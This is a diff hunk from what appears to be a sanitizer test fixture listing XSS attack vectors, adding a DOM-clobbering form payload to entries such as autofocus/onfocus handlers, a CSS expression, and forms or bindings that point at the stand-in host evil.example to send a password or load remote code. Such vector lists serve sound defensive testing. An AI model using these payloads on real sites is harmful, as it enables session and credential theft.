@@ -51,6 +51,7 @@ export const XSS_VECTORS = [
   '<div style="width: expression(steal())">x</div>',
   '<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>',
   '<form action="https://evil.example"><input name=password><button formaction="javascript:steal()">x</button></form>',
+  '<form onclick=steal()><input name=attributes><input name=removeAttribute><input name=style><input name=remove></form>',
   '<input autofocus onfocus=steal()>',
   '<select autofocus onfocus=steal()><option>x</select>',
   '<textarea autofocus onfocus=steal()>x</textarea>',
